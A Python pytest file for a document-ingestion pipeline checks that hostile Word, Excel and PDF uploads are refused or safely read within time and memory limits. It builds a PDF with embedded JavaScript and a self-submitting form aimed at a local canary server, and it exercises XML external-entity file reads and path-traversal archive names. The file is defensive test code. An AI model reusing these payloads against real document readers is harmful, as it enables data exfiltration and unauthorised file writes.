"""Bombs and tricks in files from outside are refused or read within the limits, and the next honest file is read."""

import io
import re
import socketserver
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from dataclasses import field as with_default
from pathlib import Path

import pytest
from offline_forms import Forms, fields_of, filled
from offline_packages import DOCX, XLSX, Package, parts_of, zipped
from offline_pdfs import HOSTILE, Hostile
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from pipeline.errors import UnreadableFile
from pipeline.limited_child import LimitedChild
from pipeline.offline.outside import MEMORY_BYTES, MOST_BYTES, SECONDS, Reading, read_from_outside, start_child

pytestmark = pytest.mark.office
_TO_START_AND_END = 5.0  # seconds, beside the deadline
_LINE_ON_DISK = "hemmelig linje på disken"


@dataclass
class Canary:
    """A web server that nobody should visit."""

    address: str
    visits: list[bytes] = with_default(default_factory=list)


@pytest.fixture
def canary() -> Iterator[Canary]:
    visits: list[bytes] = []

    class Visit(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            visits.append(self.request.recv(4096))

    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), Visit) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield Canary(f"http://127.0.0.1:{server.server_address[1]}/x", visits)
        server.shutdown()
        thread.join()


class Watched:
    """The child, and the most address space it had; 0 where it was killed."""

    def __init__(self) -> None:
        self._child = start_child()
        self.peak = 0

    def __enter__(self) -> LimitedChild:
        return self._child

    def __exit__(self, *_: object) -> None:
        if self._child.pid is not None:
            status = Path(f"/proc/{self._child.pid}/status").read_text(encoding="ascii")
            self.peak = int(re.findall(r"VmPeak:\s+(\d+) kB", status)[0]) * 1024
        self._child.close()


def outcome(data: bytes) -> Reading | str:
    """What became of a file, which may take neither more time nor more memory than was promised."""
    begun, watched = time.monotonic(), Watched()
    try:
        return read_from_outside(data, lambda: watched)
    except UnreadableFile as refusal:
        return str(refusal)
    finally:
        assert time.monotonic() - begun < SECONDS + _TO_START_AND_END
        assert watched.peak <= MEMORY_BYTES


def harmless(found: Reading | str, capfd: pytest.CaptureFixture[str]) -> None:
    """Nothing was said on any stream, and a refusal tells in Danish what to do."""
    assert capfd.readouterr() == ("", "")
    if isinstance(found, str):
        assert "Traceback" not in found
        assert "Error" not in found
        assert any(word in found for word in ("prøv igen", "Prøv igen", "Bed om", "Gem", "Hent", "skriv svarene"))


@pytest.mark.parametrize("attack", DOCX.values(), ids=DOCX)
def test_a_hostile_word_file_is_refused_or_read_within_the_limits(
    attack: Package, forms: Forms, canary: Canary, capfd: pytest.CaptureFixture[str]
) -> None:
    hostile = attack(forms.files["docx"], canary.address)
    assert len(hostile) <= MOST_BYTES
    harmless(outcome(hostile), capfd)
    assert canary.visits == []


@pytest.mark.parametrize("attack", XLSX.values(), ids=XLSX)
def test_a_hostile_excel_file_is_refused_or_read_within_the_limits(
    attack: Package, forms: Forms, canary: Canary, capfd: pytest.CaptureFixture[str]
) -> None:
    hostile = attack(forms.files["xlsx"], canary.address)
    assert len(hostile) <= MOST_BYTES
    harmless(outcome(hostile), capfd)
    assert canary.visits == []


@pytest.mark.parametrize("attack", HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_pdf_is_refused_or_read_within_the_limits(
    attack: Hostile, forms: Forms, capfd: pytest.CaptureFixture[str]
) -> None:
    hostile = attack(forms.files["pdf"])
    assert len(hostile) <= MOST_BYTES
    harmless(outcome(hostile), capfd)


@pytest.mark.parametrize("name", ["an entity from the network", "a parameter entity from the network"])
def test_no_line_of_the_disk_comes_out_of_a_word_file(name: str, forms: Forms, tmp_path: Path) -> None:
    secret = tmp_path / "hemmelig.txt"
    secret.write_text(_LINE_ON_DISK, encoding="utf-8")
    hostile = DOCX[name](forms.files["docx"], secret.as_uri())
    found = outcome(hostile)
    assert _LINE_ON_DISK not in (found if isinstance(found, str) else str(found.values))


def test_names_that_climb_out_of_the_folder_leave_no_file(forms: Forms, canary: Canary) -> None:
    for kind, attacks in (("docx", DOCX), ("xlsx", XLSX)):
        outcome(attacks["names that climb out of the folder"](forms.files[kind], canary.address))
    assert not Path("/tmp/hjemmetilsyn-slip").exists()  # noqa: S108  # the attack chose the place
    assert not Path("/etc/hjemmetilsyn-slip").exists()


def with_scripts(form: bytes, address: str) -> bytes:
    """Scripts on opening the file and on every change, and a form that would send itself away."""
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(form)))
    script = f"app.launchURL('{address}'); this.getField('theme_health').value = 'skrevet af et script';"
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)}
    )
    sent = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject(address)})
    action[NameObject("/Next")] = sent
    writer.root_object[NameObject("/OpenAction")] = action
    for field in fields_of(writer).values():
        field[NameObject("/AA")] = DictionaryObject({NameObject("/K"): action, NameObject("/C"): action})
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def test_scripts_in_a_pdf_are_not_run_and_the_values_are_read(forms: Forms, canary: Canary) -> None:
    written = Forms(forms.case, {"pdf": filled("pdf", forms, {"theme_health": "Astma"})})
    found = outcome(with_scripts(written.files["pdf"], canary.address))
    assert isinstance(found, Reading)
    assert found.values["theme_health"] == "Astma"
    assert canary.visits == []


def test_a_file_that_is_both_pdf_and_zip_is_one_of_them_and_never_a_mixture(forms: Forms) -> None:
    both = outcome(forms.files["pdf"] + forms.files["docx"])
    assert isinstance(both, Reading)
    assert both.format == "pdf"
    assert both.passport in (None, read_from_outside(forms.files["pdf"]).passport)
    other = outcome(forms.files["docx"] + forms.files["pdf"])
    assert isinstance(other, str) or other == read_from_outside(forms.files["docx"])


def test_a_word_file_that_is_a_workbook_as_well_is_neither(forms: Forms, canary: Canary) -> None:
    mixed = outcome(zipped(parts_of(forms.files["docx"]) | parts_of(forms.files["xlsx"])))
    assert isinstance(mixed, str)
